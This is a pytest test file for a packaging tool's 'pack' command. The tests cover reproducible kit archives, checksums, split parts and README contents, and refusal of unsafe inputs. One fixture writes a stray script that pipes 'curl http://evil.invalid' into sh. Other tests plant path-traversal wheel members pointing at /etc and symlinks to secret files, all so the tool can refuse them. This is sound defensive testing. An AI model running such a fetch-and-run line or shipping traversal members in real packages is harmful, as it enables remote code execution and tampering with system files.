"""bundler.kit.pack / `bundler pack`: layout, checksums, reproducibility, split, README, refusals.

Inputs are the HAND-MADE wheelhouse of tests/unit/handmade_kit.py (see its docstring).
"""

from __future__ import annotations

import gzip
import hashlib
import os
import re
import stat
import subprocess
import tarfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from bundler.cli import main
from bundler.errors import BadInput, CheckFailed
from bundler.fs import sums
from bundler.fs.cache import Cache
from bundler.kit import pack, verify
from bundler.models.target import Target
from bundler.wheelhouse.fetch import FetchOptions, fetch
from tests.fakeindex import FakeIndex
from tests.mounts import mounted_tmpfs
from tests.unit.kit.handmade_kit import handmade_inputs
from tests.unit.kit.handmade_kit import pack_inputs as _pack
from tests.unit.kit.pysource_kit import FIT_3_6_10, python_tarballs, rebuild_demoapp


@pytest.fixture
def inputs(tmp_path: Path) -> dict[str, Path]:
    return handmade_inputs(tmp_path / "in")


def test_layout_one_top_dir_with_every_part(inputs: dict[str, Path], tmp_path: Path) -> None:
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    with tarfile.open(result.archive) as tar:
        names = tar.getnames()
    assert all(n == "kit-demo" or n.startswith("kit-demo/") for n in names)
    for required in (
        "README.txt",
        "SHA256SUMS",
        "sbom.cdx.json",
        "Vagrantfile",
        "wheelhouse/manifest.json",
        "wheelhouse/requirements.lock",
        "wheelhouse/install.sh",
        "wheelhouse/system-packages.yml",
        "wheelhouse/demoapp-1.0-py3-none-any.whl",
        "sources/Python-3.6.15.tgz",
        "sources/zlib-9.9.tar.gz",
        "playbooks/site.yml",
        "playbooks/inventory/hosts.example.ini",
    ):
        assert f"kit-demo/{required}" in names, required
    assert result.python_source == "Python-3.6.15.tgz"
    assert result.notes == []


def test_members_are_normalised_and_sorted(inputs: dict[str, Path], tmp_path: Path) -> None:
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    with tarfile.open(result.archive) as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == sorted(m.name for m in members)
    for m in members:
        assert (m.mtime, m.uid, m.gid, m.uname, m.gname) == (pack.DEFAULT_EPOCH, 0, 0, "", "")
        assert m.isdir() or m.isreg()
        expected = 0o755 if m.isdir() or m.name.endswith("install.sh") else 0o644
        assert m.mode == expected, m.name
    header = result.archive.read_bytes()[:10]
    assert header[3] & 0x08 == 0, "gzip header must not carry a file name"
    assert header[4:8] == b"\0\0\0\0", "gzip header mtime must be 0"


def test_two_packs_of_the_same_inputs_are_byte_identical(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    first = _pack(inputs, tmp_path / "a" / "kit-demo.tar.gz")
    for path in inputs["wheelhouse"].iterdir():  # new mtimes and modes must not matter
        os.utime(path, (1_700_000_000, 1_700_000_000))
    (inputs["playbooks"] / "site.yml").chmod(0o600)
    second = _pack(inputs, tmp_path / "b" / "kit-demo.tar.gz")
    assert first.archive.read_bytes() == second.archive.read_bytes()
    assert first.sha256 == second.sha256 == hashlib.sha256(first.archive.read_bytes()).hexdigest()


def test_source_date_epoch_sets_every_mtime(
    inputs: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1600000000")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    with tarfile.open(result.archive) as tar:
        assert {m.mtime for m in tar.getmembers()} == {1600000000}


def test_sha256sums_covers_every_file_and_passes_sha256sum(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    out = tmp_path / "x"
    out.mkdir()
    subprocess.run(["tar", "xzf", str(result.archive), "-C", str(out)], check=True)
    kit = out / "kit-demo"
    listed = [line.split("  ", 1)[1] for line in (kit / "SHA256SUMS").read_text().splitlines()]
    files = sorted(p.relative_to(kit).as_posix() for p in kit.rglob("*") if p.is_file())
    assert sorted([*listed, "SHA256SUMS"]) == files
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=kit, capture_output=True)
    assert check.returncode == 0, check.stdout + check.stderr
    whole = subprocess.run(
        ["sha256sum", "-c", result.checksum_file.name], cwd=tmp_path, capture_output=True
    )
    assert whole.returncode == 0, whole.stdout


def test_readme_lists_contents_and_commands(inputs: dict[str, Path], tmp_path: Path) -> None:
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    with tarfile.open(result.archive) as tar:
        f = tar.extractfile("kit-demo/README.txt")
        assert f is not None
        readme = f.read().decode()
    assert "CPython 3.6.15 (cp36m), manylinux1_x86_64" in readme
    assert "sources/Python-3.6.15.tgz: the playbooks build it" in readme
    assert "demolib                      1.2            MIT" in readme
    assert "sha256sum -c SHA256SUMS" in readme
    assert "bundler verify kit-demo.tar.gz" in readme
    assert "-e python_version=3.6.15" in readme
    assert "glib2, libSM" in readme


def test_kit_without_cpython_source_says_so(tmp_path: Path) -> None:
    inputs = handmade_inputs(tmp_path / "in", with_python_source=False)
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert result.python_source is None
    assert any("no CPython source" in n for n in result.notes)
    with tarfile.open(result.archive) as tar:
        f = tar.extractfile("kit-demo/README.txt")
        assert f is not None
        readme = f.read().decode()
    assert "NONE. This kit carries no CPython source" in readme
    assert "-e python_build=false" in readme


def test_split_parts_rejoin_to_the_recorded_hash(inputs: dict[str, Path], tmp_path: Path) -> None:
    whole = _pack(inputs, tmp_path / "whole" / "kit-demo.tar.gz")
    result = _pack(inputs, tmp_path / "split" / "kit-demo.tar.gz", split=2048)
    assert not result.archive.exists()
    assert [p.name for p in result.parts] == [
        f"kit-demo.tar.gz.part{i:03d}" for i in range(len(result.parts))
    ]
    assert len(result.parts) >= 2
    assert all(p.stat().st_size <= 2048 for p in result.parts)
    joined = b"".join(p.read_bytes() for p in result.parts)
    assert joined == whole.archive.read_bytes()
    assert result.checksum_file.read_text() == f"{whole.sha256}  kit-demo.tar.gz\n"


def test_repack_with_fewer_parts_removes_stale_parts(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    out = tmp_path / "kit-demo.tar.gz"
    many = _pack(inputs, out, split=1024)
    few = _pack(inputs, out, split=1 << 20)
    assert len(many.parts) > 1 and len(few.parts) == 1
    assert sorted(p.name for p in tmp_path.glob("kit-demo.tar.gz.part*")) == [
        "kit-demo.tar.gz.part000"
    ]


@pytest.mark.parametrize(
    ("text", "size"),
    [
        ("700M", 700 << 20),
        ("4G", 4 << 30),
        ("4GiB", 4 << 30),
        ("4GB", 4_000_000_000),
        ("2048", 2048),
    ],
)
def test_parse_size(text: str, size: int) -> None:
    assert pack.parse_size(text) == size


@pytest.mark.parametrize("text", ["", "lots", "1.5G", "10"])
def test_parse_size_refuses(text: str) -> None:
    with pytest.raises(BadInput):
        pack.parse_size(text)


def test_refusals_are_user_errors(inputs: dict[str, Path], tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=r"kit-NAME\.tar\.gz"):
        _pack(inputs, tmp_path / "kit.zip")
    (inputs["wheelhouse"] / "install.sh").unlink()
    with pytest.raises(BadInput, match=r"install\.sh"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")


def test_source_changed_since_fetch_source_is_refused(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    (inputs["sources"] / "zlib-9.9.tar.gz").write_bytes(b"swapped after fetch-source")
    with pytest.raises(BadInput, match=r"zlib-9\.9\.tar\.gz: sha256 .* differs"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert not (tmp_path / "kit-demo.tar.gz").exists()


def test_a_wheel_changed_since_fetch_is_refused(inputs: dict[str, Path], tmp_path: Path) -> None:
    """Pack compares each wheel's sha256 (computed for SHA256SUMS) with manifest.json."""
    wheel = inputs["wheelhouse"] / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl"
    data = bytearray(wheel.read_bytes())
    data[len(data) // 2] ^= 0xFF  # same size: only the hash can tell
    wheel.write_bytes(bytes(data))
    with pytest.raises(
        BadInput, match=rf"{re.escape(wheel.name)}: sha256 .* differs from manifest"
    ):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert not (tmp_path / "kit-demo.tar.gz").exists()
    wheel.unlink()
    with pytest.raises(BadInput, match=rf"{re.escape(wheel.name)}: recorded in manifest.json but"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")


def test_a_cache_blob_damaged_after_adoption_never_leaves_the_machine(
    tmp_path: Path, fake_index: FakeIndex
) -> None:
    """A cached blob damaged in place (same size) never reaches the wheelhouse: the warm fetch
    hashes it on its way out and fetches it again (#17 review D1); a wheel damaged in the
    wheelhouse after the fetch is refused by pack and named by verify."""
    fake_index.add_wheel("app", "1.0", requires_dist=["lib"])
    fake_index.add_wheel("lib", "1.0", tags="cp36-cp36m-manylinux1_x86_64")
    cache = tmp_path / "cache"

    def fetched(out: Path) -> Path:
        options = FetchOptions(
            target=Target.from_spec("3.6", "manylinux1"),
            requirements=("app",),
            output=out,
            index_urls=(fake_index.url,),
            cache_dir=cache,
        )
        return fetch(options).output

    first = fetched(tmp_path / "wh1")
    lib = next(first.glob("lib-*.whl"))
    blob = Cache(cache).blob_path(hashlib.sha256(lib.read_bytes()).hexdigest())
    data = bytearray(blob.read_bytes())
    data[len(data) // 2] ^= 0xFF  # damaged in place, same size
    blob.unlink()  # wh1's copy is a hardlink of it: keep wh1 intact
    blob.write_bytes(bytes(data))
    second = fetched(tmp_path / "wh2")
    assert (second / lib.name).read_bytes() == lib.read_bytes()  # the damage never left
    wheel = second / lib.name
    damaged = bytearray(wheel.read_bytes())
    damaged[len(damaged) // 2] ^= 0xFF
    wheel.unlink()  # a hardlink of the cache's blob: keep the cache intact
    wheel.write_bytes(bytes(damaged))  # damaged after the fetch, same size
    inputs = handmade_inputs(tmp_path / "in")
    inputs["wheelhouse"] = second
    with pytest.raises(BadInput, match=rf"{re.escape(lib.name)}: sha256 .* differs from manifest"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert not (tmp_path / "kit-demo.tar.gz").exists()
    with pytest.raises(CheckFailed) as failed:
        verify.verify([second])
    assert f"{lib.name}: sha256 differs from manifest.json" in failed.value.problems
    assert _pack(
        {**inputs, "wheelhouse": first}, tmp_path / "kit-demo.tar.gz"
    ).archive.exists()  # the undamaged wheelhouse packs


def test_cli_pack_reports_missing_cpython_source(tmp_path: Path) -> None:
    inputs = handmade_inputs(tmp_path / "in", with_python_source=False)
    out = tmp_path / "kit-demo.tar.gz"
    result = CliRunner().invoke(
        main,
        [
            "pack",
            "--wheelhouse",
            str(inputs["wheelhouse"]),
            "--sources",
            str(inputs["sources"]),
            "--playbooks",
            str(inputs["playbooks"]),
            "--vagrantfile",
            str(inputs["vagrantfile"]),
            "-o",
            str(out),
            "--split",
            "1K",
            "--no-controller",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "controller: NONE (--no-controller" in result.output
    assert "CPython source: NONE" in result.output
    assert "note: no CPython source in the kit" in result.output
    assert (tmp_path / "kit-demo.tar.gz.part000").is_file()
    with gzip.open(tmp_path / "kit-demo.tar.gz.part000") as f:
        assert f.read(1)  # the first part starts the gzip stream


def test_default_name_from_manifest(inputs: dict[str, Path]) -> None:
    assert pack.default_name(inputs["wheelhouse"]) == "kit-demoapp-py3.6.15-manylinux1_x86_64"


# -- the CPython source: same X.Y, other patch release (issue 5's 3.6.10, issue 2's 3.6.15) ------


def _readme(archive: Path, name: str = "kit-demo") -> str:
    with tarfile.open(archive) as tar:
        f = tar.extractfile(f"{name}/README.txt")
        assert f is not None
        return f.read().decode()


def test_same_minor_cpython_source_is_the_kits_interpreter(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    python_tarballs(inputs["sources"], "3.6.10")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    fit = FIT_3_6_10
    assert result.python is not None
    assert (result.python_source, result.python.version) == ("Python-3.6.10.tgz", "3.6.10")
    assert result.python.describe() == fit
    assert any(n.startswith(fit) for n in result.notes), result.notes
    readme = _readme(result.archive)
    assert "sources/Python-3.6.10.tgz: the playbooks build it" in readme
    assert fit in readme
    assert "-e python_version=3.6.10" in readme
    assert "NONE" not in readme and "python_build=false" not in readme


def test_cli_pack_says_which_cpython_and_which_wheelhouse(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    python_tarballs(inputs["sources"], "3.6.10")
    result = CliRunner().invoke(
        main,
        [
            "pack", "--wheelhouse", str(inputs["wheelhouse"]), "--sources", str(inputs["sources"]),
            "--playbooks", str(inputs["playbooks"]), "--vagrantfile", str(inputs["vagrantfile"]),
            "-o", str(tmp_path / "kit-demo.tar.gz"), "--no-controller",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "CPython source: sources/Python-3.6.10.tgz" in result.output
    assert f"note: {FIT_3_6_10}" in result.output


def test_exact_cpython_source_wins_over_another_patch_release(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    python_tarballs(inputs["sources"], "3.6.10", "3.6.15", "3.6.12")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert result.python is not None
    assert (result.python_source, result.python.version) == ("Python-3.6.15.tgz", "3.6.15")
    assert result.notes == []


def test_newest_patch_release_of_the_same_minor_is_chosen(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    python_tarballs(inputs["sources"], "3.6.9", "3.6.10", "3.7.9")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert result.python_source == "Python-3.6.10.tgz"


def test_cpython_source_of_another_minor_is_not_the_interpreter(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    python_tarballs(inputs["sources"], "3.7.9")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert result.python is None and result.python_source is None
    assert any(
        "sources/ has Python-3.7.9.tgz but the wheelhouse targets CPython 3.6.15" in n
        for n in result.notes
    ), result.notes
    readme = _readme(result.archive)
    assert "NONE. This kit carries no CPython source" in readme
    assert "-e python_build=false" in readme


@pytest.mark.parametrize(
    ("requires", "requires_python", "why"),
    [
        (
            ("demolib>=1.0", "backport; python_full_version < '3.6.12'"),
            None,
            'requires backport; python_full_version < "3.6.12" on the target, but the lock '
            "has no backport",
        ),
        (("demolib>=1.0",), ">=3.6.12", "Requires-Python >=3.6.12 excludes CPython 3.6.10"),
    ],
)
def test_same_minor_source_the_wheelhouse_does_not_hold_for_is_refused(
    inputs: dict[str, Path],
    tmp_path: Path,
    requires: tuple[str, ...],
    requires_python: str | None,
    why: str,
) -> None:
    rebuild_demoapp(inputs["wheelhouse"], requires, requires_python)
    exact = _pack(inputs, tmp_path / "exact" / "kit-demo.tar.gz")  # fine for 3.6.15 itself
    assert exact.python_source == "Python-3.6.15.tgz"
    python_tarballs(inputs["sources"], "3.6.10")
    with pytest.raises(BadInput) as err:
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    message = str(err.value)
    assert message.startswith("sources/Python-3.6.10.tgz would be the kit's interpreter")
    assert why in message
    assert "re-fetch with --python 3.6.10" in message
    assert "\n" not in message
    assert not (tmp_path / "kit-demo.tar.gz").exists()


# -- README: deploy from playbooks/ so that playbooks/ansible.cfg is read -----------------------


@pytest.mark.parametrize("with_python_source", [True, False])
def test_readme_deploy_commands_run_from_the_playbooks_directory(
    tmp_path: Path, with_python_source: bool
) -> None:
    inputs = handmade_inputs(tmp_path / "in", with_python_source=with_python_source)
    (inputs["playbooks"] / "ansible.cfg").write_text("[defaults]\nroles_path = roles\n")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    readme = _readme(result.archive)
    with tarfile.open(result.archive) as tar:
        names = set(tar.getnames())
    step = readme[readme.index("2. Deploy with Ansible") : readme.index("3. Or")]
    commands = [ln.strip() for ln in step.splitlines() if ln.startswith("     ")]
    assert commands[0] == "cd playbooks"
    assert commands[1] == "cp inventory/hosts.example.ini inventory/hosts.ini   # then edit"
    # an unsigned kit: the first play refuses it unless told (kit_verify)
    assert (
        commands[2]
        == "ansible-playbook -i inventory/hosts.ini site.yml -e kit_allow_unsigned=true \\"
    )
    assert commands[-1] == "cd .."
    assert "playbooks/site.yml" not in step and "-i playbooks/" not in step
    # every relative path of the commands exists under the kit's playbooks/
    for rel in ("inventory/hosts.example.ini", "site.yml", "ansible.cfg"):
        assert f"kit-demo/playbooks/{rel}" in names, rel
    assert "defaults to the parent of\n   playbooks/, i.e. this kit" in step
    assert "kit_dir" in step and "-e kit_dir" not in step.replace("no -e kit_dir", "")
    # step 3 runs from the kit's top directory again
    assert "sh wheelhouse/install.sh" in readme
    assert "kit-demo/wheelhouse/install.sh" in names


# -- what pack takes from its inputs: regular files only (issue #10) ----------------------------


def _root_only_file(tmp_path: Path) -> Path:
    secret = tmp_path / "secret"
    secret.write_text("root-only\n")
    secret.chmod(0o600)
    return secret


@pytest.mark.parametrize("where", ["wheelhouse", "sources", "playbooks"])
def test_a_symbolic_link_in_the_inputs_is_refused(
    inputs: dict[str, Path], tmp_path: Path, where: str
) -> None:
    link = inputs[where] / "looks-harmless.txt"
    link.symlink_to(_root_only_file(tmp_path))
    out = tmp_path / "out" / "kit-demo.tar.gz"
    result = CliRunner().invoke(main, ["pack", *_args(inputs), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"bundler: error: {link}: symbolic link to '{tmp_path / 'secret'}' refused: pack takes "
        "only regular files from its inputs (put the file itself there)\n"
    )
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_a_linked_folder_is_refused(inputs: dict[str, Path], tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "shadow").write_text("x\n")
    (inputs["playbooks"] / "roles").symlink_to(tmp_path / "etc")
    with pytest.raises(BadInput, match=r"roles: symbolic link to .* refused"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")


def test_fifo_and_device_in_the_inputs_are_refused(inputs: dict[str, Path], tmp_path: Path) -> None:
    fifo = inputs["sources"] / "pipe.tar.gz"
    os.mkfifo(fifo)  # reading it would block the pack forever
    with pytest.raises(BadInput, match=f"^{fifo}: fifo refused"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    fifo.unlink()
    if os.geteuid() == 0:  # mknod of a device needs root (CI runs as root)
        device = inputs["wheelhouse"] / "null.whl"
        os.mknod(device, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
        with pytest.raises(BadInput, match=f"^{device}: character device refused"):
            _pack(inputs, tmp_path / "kit-demo.tar.gz")


def test_a_file_swapped_for_a_link_after_hashing_is_refused(
    inputs: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The check and the read are about the same file: a link appearing between the walk and
    the write is not followed (O_NOFOLLOW), it fails the pack."""
    target = inputs["playbooks"] / "site.yml"
    real_write_tar = pack.write_tar

    def swap_then_write(*args: object) -> None:
        target.unlink()
        target.symlink_to(_root_only_file(tmp_path))
        real_write_tar(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(pack, "write_tar", swap_then_write)
    with pytest.raises(BadInput, match=r"site\.yml: symbolic link refused"):
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert sorted(os.listdir(tmp_path)) == ["in", "secret"]


def test_operator_files_in_the_playbooks_are_not_packed(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    inventory = inputs["playbooks"] / "inventory"
    (inventory / "hosts.ini").write_text("[intranet]\nmy-own-host\n")
    (inventory / "group_vars").mkdir()
    (inventory / "group_vars" / "all.yml").write_text("x: 1\n")
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    with tarfile.open(result.archive) as tar:
        names = tar.getnames()
    assert "kit-demo/playbooks/inventory/hosts.example.ini" in names
    assert not [n for n in names if "hosts.ini" in n or "inventory/group_vars" in n]
    assert f"{inventory / 'hosts.ini'} not packed: an operator file (made on the other side)" in (
        result.notes
    )


def _args(inputs: dict[str, Path]) -> list[str]:
    return [
        "--wheelhouse", str(inputs["wheelhouse"]), "--sources", str(inputs["sources"]),
        "--playbooks", str(inputs["playbooks"]), "--vagrantfile", str(inputs["vagrantfile"]),
        "--no-controller",
    ]  # fmt: skip


# -- README.txt names only what the kit holds (issue #18) ------------------------------------


def _readme_items(readme: str) -> list[str]:
    """The paths README.txt's "What is inside" section names: the first column, and the
    files listed below wheelhouse/, sources/ and playbooks/."""
    section = readme[readme.index("What is inside") : readme.index("CPython source\n")]
    items: list[str] = []
    current = ""
    for line in section.splitlines()[2:]:
        if not line.strip():
            continue
        if not line.startswith(" "):
            current = line.split()[0]
            items.append(current)
        elif current == "sources/":
            items.append(current + line.split()[0])
        else:
            items += [current + x.strip() for x in line.split(",")]
    return items


@pytest.mark.parametrize("with_sources", [True, False])
def test_readme_lists_only_what_is_inside(tmp_path: Path, with_sources: bool) -> None:
    inputs = handmade_inputs(tmp_path / "in")
    if not with_sources:
        for f in inputs["sources"].iterdir():
            f.unlink()
    (inputs["wheelhouse"] / "system-packages.yml").unlink()
    sums.refresh_directory(inputs["wheelhouse"])  # as a fetch --no-audit writes it
    (inputs["playbooks"] / "roles" / "smoke").mkdir(parents=True)
    (inputs["playbooks"] / "roles" / "smoke" / "main.yml").write_text("---\n")
    inputs["vagrantfile"] = tmp_path / "none"
    result = _pack(inputs, tmp_path / "kit-demo.tar.gz")
    with tarfile.open(result.archive) as tar:
        names = {n.removeprefix("kit-demo/") for n in tar.getnames()}
        f = tar.extractfile("kit-demo/README.txt")
        assert f is not None
        readme = f.read().decode()
    items = _readme_items(readme)
    assert "wheelhouse/manifest.json" in items and "playbooks/roles/" in items
    for item in items:
        assert item.rstrip("/") in names, f"README.txt names {item}, the kit has no such thing"
    assert ("sources/" in items) == with_sources
    assert "Vagrantfile" not in items and "wheelhouse/system-packages.yml" not in items
    assert "(empty)" not in readme


# -- pack -o where nothing can be written: one line, exit 2, nothing half-written (issue #10) --


def test_pack_into_a_read_only_folder_is_one_error_line(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    with mounted_tmpfs(tmp_path / "ro", readonly=True) as ro:
        out = ro / "kit-demo.tar.gz"
        result = CliRunner().invoke(main, ["pack", *_args(inputs), "-o", str(out)])
        assert result.exit_code == 2, result.output
        assert result.stderr == (
            f"bundler: error: {out}: cannot write the kit (Read-only file system); "
            "nothing was written\n"
        )
        assert os.listdir(ro) == []


@pytest.mark.parametrize("split", [None, "4K"])
def test_pack_onto_a_full_disk_leaves_the_previous_kit(
    inputs: dict[str, Path], tmp_path: Path, split: str | None
) -> None:
    """A 96 KiB tmpfs holds a small kit; the same kit grown by 200 KB of sources does not fit:
    the error names the output, and the folder keeps the earlier kit, whole and verified."""
    with mounted_tmpfs(tmp_path / "usb", size="96k") as usb:
        out = usb / "kit-demo.tar.gz"
        args = ["pack", *_args(inputs), "-o", str(out), *(["--split", split] if split else [])]
        first = CliRunner().invoke(main, args)
        assert first.exit_code == 0, first.output
        before = {p.name: p.read_bytes() for p in usb.iterdir()}
        (inputs["sources"] / "big.tar.gz").write_bytes(os.urandom(200_000))
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 2, result.output
        assert result.stderr == (
            f"bundler: error: {out}: cannot write the kit (No space left on device); "
            "nothing was written\n"
        )
        assert {p.name: p.read_bytes() for p in usb.iterdir()} == before
        kit = [usb / n for n in sorted(before) if not n.endswith(".sha256")]
        assert CliRunner().invoke(main, ["verify", *map(str, kit)]).exit_code == 0


def test_a_killed_packs_leftovers_are_swept_by_the_next_pack(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    """What a SIGKILLed pack leaves (its stage, unlocked once the process is gone) is removed
    by the next pack to the same output; the kit is complete and verifies."""
    out = tmp_path / "out" / "kit-demo.tar.gz"
    out.parent.mkdir()
    stale = out.parent / ".kit-demo.tar.gz.stage-k1ll3d00"
    (stale / "scratch").mkdir(parents=True)
    (stale / "scratch" / "kit-demo.tar.gz").write_bytes(b"half an archive")
    (out.parent / ".kit-demo.tar.gz.x1y2z3.part").write_bytes(b"half a file")
    result = _pack(inputs, out)
    assert sorted(os.listdir(out.parent)) == ["kit-demo.tar.gz", "kit-demo.tar.gz.sha256"]
    assert CliRunner().invoke(main, ["verify", str(result.archive)]).exit_code == 0


def test_a_wheelhouse_changed_since_fetch_is_refused(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    """install.sh checks the wheelhouse's own SHA256SUMS on the host: pack must not ship a
    wheelhouse that would fail there."""
    (inputs["wheelhouse"] / "install.sh").write_text("#!/bin/sh\necho edited\n")
    with pytest.raises(BadInput) as exc:
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert "SHA256SUMS no longer matches the wheelhouse (wheelhouse/install.sh: sha256" in str(
        exc.value
    )
    assert not (tmp_path / "kit-demo.tar.gz").exists()


def test_audit_keeps_the_wheelhouse_sums_true(inputs: dict[str, Path], tmp_path: Path) -> None:
    wheelhouse = inputs["wheelhouse"]
    before = (wheelhouse / "SHA256SUMS").read_text()
    audited = CliRunner().invoke(main, ["audit", str(wheelhouse), "--distro", "debian12"])
    assert audited.exit_code == 0, audited.output
    assert (wheelhouse / "SHA256SUMS").read_text() != before  # system-packages.yml changed
    assert sums.check_directory(wheelhouse) == []
    assert _pack(inputs, tmp_path / "kit-demo.tar.gz").archive.is_file()


# -- pack carries what the manifest accounts for, and only safe wheels (review of #10) -------


def test_a_kit_packed_into_the_wheelhouse_is_refused_by_the_next_pack(
    inputs: dict[str, Path], tmp_path: Path
) -> None:
    """The reviewer's case: `pack -o wheelhouse/kit-x.tar.gz`, then pack again; the first kit
    was nested in the second and verify passed. Now the second pack names it and writes
    nothing."""
    wh = inputs["wheelhouse"]
    first = CliRunner().invoke(main, ["pack", *_args(inputs), "-o", str(wh / "kit-x.tar.gz")])
    assert first.exit_code == 0, first.output
    out = tmp_path / "out" / "kit-y.tar.gz"
    result = CliRunner().invoke(main, ["pack", *_args(inputs), "-o", str(out)])
    assert result.exit_code == 2, result.output
    assert result.stderr == (
        f"bundler: error: {wh / 'kit-x.tar.gz'}: not a wheelhouse file (manifest.json does "
        "not list it, and it is none of manifest.json, requirements.lock, bootstrap.lock, "
        "pylock.toml, install.sh, system-packages.yml, policy-findings.json, SHA256SUMS, "
        "SHA256SUMS.asc, SHA256SUMS.minisig): pack carries only what the manifest "
        f"accounts for; move it out of {wh}\n"
    )
    assert not out.exists()


@pytest.mark.parametrize("stray", ["postinstall.sh", "extra/notes.txt", "kit-x.tar.gz.sha256"])
def test_a_file_the_manifest_does_not_account_for_is_refused(
    inputs: dict[str, Path], tmp_path: Path, stray: str
) -> None:
    path = inputs["wheelhouse"] / stray
    path.parent.mkdir(exist_ok=True)
    path.write_text("#!/bin/sh\ncurl http://evil.invalid | sh\n")
    with pytest.raises(BadInput, match=rf"^{path}: not a wheelhouse file \(") as exc:
        _pack(inputs, tmp_path / "kit-demo.tar.gz")
    assert "\n" not in str(exc.value)
    path.unlink()
    assert _pack(inputs, tmp_path / "kit-demo.tar.gz").archive.is_file()


@pytest.mark.parametrize(
    ("member", "mode"), [("../../../etc/cron.d/x", None), ("/etc/x", None), ("demolib/l", 0o120777)]
)
def test_a_wheel_with_a_member_outside_the_root_is_refused(
    inputs: dict[str, Path], tmp_path: Path, member: str, mode: int | None
) -> None:
    from tests.unit.models.test_wheel import add_member

    wheel = inputs["wheelhouse"] / "demolib-1.2-cp36-cp36m-manylinux1_x86_64.whl"
    add_member(wheel, member, b"/etc/passwd", mode)
    result = CliRunner().invoke(
        main, ["pack", *_args(inputs), "-o", str(tmp_path / "kit-demo.tar.gz")]
    )
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"bundler: error: {wheel}: member {member!r} ")
    assert result.stderr.endswith(": refused\n") and result.stderr.count("\n") == 1
    assert not (tmp_path / "kit-demo.tar.gz").exists()


def test_a_several_target_kit_names_every_targets_cpython_source(tmp_path: Path) -> None:
    """pack and inspect of a several-target wheelhouse: each target's system-packages.yml
    counts (no note), and each target's CPython source is shown, not only the first's
    (#16 review finding 11)."""
    with FakeIndex(tmp_path / "fakeindex") as fake:
        fake.add_wheel("app", "1.0", requires_python=">=3.6,!=3.11.0")
        t36, t311 = Target.from_spec("3.6", "manylinux1"), Target.from_spec("3.11", "manylinux2014")
        wheelhouse = fetch(
            FetchOptions(
                target=t36,
                targets=(t36, t311),
                requirements=("app",),
                output=tmp_path / "wh",
                index_urls=(fake.url,),
                cache_dir=tmp_path / "cache",
            )
        ).output
    inputs = handmade_inputs(tmp_path / "in")
    python_tarballs(inputs["sources"], "3.6.15")  # none for 3.11
    argv = ["pack", "--wheelhouse", str(wheelhouse), "--sources", str(inputs["sources"])]
    argv += ["--playbooks", str(inputs["playbooks"]), "--vagrantfile", str(inputs["vagrantfile"])]
    kit = tmp_path / "out" / "kit-demo.tar.gz"
    packed = CliRunner().invoke(main, [*argv, "--no-controller", "-o", str(kit)])
    assert packed.exit_code == 0, packed.output
    assert "system-packages.yml" not in packed.stderr
    assert f"CPython source of target {t36.name}: sources/Python-3.6.15.tgz" in packed.stdout
    assert f"CPython source of target {t311.name}: NONE" in packed.stdout
    assert f"note: target {t311.name}: no CPython source in the kit" in packed.stderr
    (wheelhouse / "targets" / t311.name / "system-packages.yml").unlink()
    sums.write_tree(wheelhouse, {})
    again = CliRunner().invoke(main, [*argv, "--no-controller", "-o", str(tmp_path / "k2.tar.gz")])
    assert f"wheelhouse/targets/{t311.name} has no system-packages.yml" in again.stderr
    assert f"targets/{t36.name} has no" not in again.stderr
    shown = CliRunner().invoke(main, ["inspect", str(kit)])
    assert shown.exit_code == 0, shown.output
    blocks = {b.split(":")[0]: b for b in shown.stdout.split("\ntarget ")[1:]}
    assert "\n  CPython source: NONE" in blocks[t311.name]
    assert blocks[t36.name].endswith("\n  CPython source: sources/Python-3.6.15.tgz")
